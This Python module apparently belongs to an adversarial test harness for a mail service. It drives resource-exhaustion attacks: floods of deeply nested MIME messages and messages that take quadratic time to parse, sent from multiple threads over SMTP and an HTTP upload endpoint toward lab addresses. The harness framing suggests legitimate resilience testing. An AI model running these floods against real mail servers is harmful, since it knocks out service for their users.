"""Attacks by what a mail holds: nesting, and text that is dear to read."""

from __future__ import annotations

import threading

from hostile import mails
from hostile.attack import Outcome, Target
from hostile.wire import Http, paced, send_mail

KIB = 1024
SENDERS = 8


def nesting(target: Target) -> Outcome:
    """Messages in messages, to the shared address in an enrolled account's name, and to an address of one's own."""
    to = target.victims[0].account
    shapes = [mails.nested(to, 18_000), mails.nested(to, 8_000), mails.nested_multiparts(to, 4_000)]
    shapes += [mails.nested(to, 33_000), mails.nested_multiparts(to, 16_000)]
    replies = []
    for number in paced(target.until, 2.0):
        recipient = (target.shared, target.mallory.relay_address)[number // len(shapes) % 2]
        shape = shapes[number % len(shapes)]
        replies.append(send_mail(target.smtp, "10.101.0.1", recipient, shape, timeout=target.remaining)[:3])
    return Outcome([], answers(replies))


def dear_reading(target: Target) -> Outcome:
    """Mails whose reading took quadratic time, from several addresses, by every way in."""
    replies: list[str] = []
    to = target.victims[0].account
    # The larger a mail, the more seldom: what is measured is its reading, not its way.
    made = [mail for size in (128, 250) for mail in mails.dear(to, size * KIB).values()]
    large = list(mails.dear(to, 1000 * KIB).values())

    def send(sender: int) -> None:
        for number in paced(target.until, 1.0):
            is_large = (number + sender) % 3 == 0
            shapes = large if is_large else made
            mail = shapes[(number * SENDERS + sender) % len(shapes)]
            recipient = target.mallory.relay_address if (number + sender) % 4 == 0 else target.shared
            source = f"10.102.{sender}.1"
            replies.append(send_mail(target.smtp, source, recipient, mail, timeout=target.remaining)[:3])

    def hand_in() -> None:
        with Http(target.http, "10.102.100.1", 30.0) as client:
            for number in paced(target.until, 1.0):
                client.connection.timeout = target.remaining
                path = f"/mail?token={target.mallory.token}"
                status = client.try_call("POST", path, large[number % len(large)], Content_Type="message/rfc822")
                replies.append(str(status))

    threads = [threading.Thread(target=send, args=(sender,), daemon=True) for sender in range(SENDERS)]
    threads.append(threading.Thread(target=hand_in, daemon=True))
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(target.remaining + 1.0)
    return Outcome([], answers(replies))


def answers(replies: list[str]) -> str:
    """How often each reply came."""
    counted = {reply: replies.count(reply) for reply in sorted(set(replies))}
    return ", ".join(f"{count} x {reply or 'nothing'}" for reply, count in counted.items())


def processor_seconds(pid: int) -> float:
    """What the process has used so far, of all its threads (proc(5))."""
    with open(f"/proc/{pid}/stat", encoding="ascii") as stat:
        fields = stat.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / 100
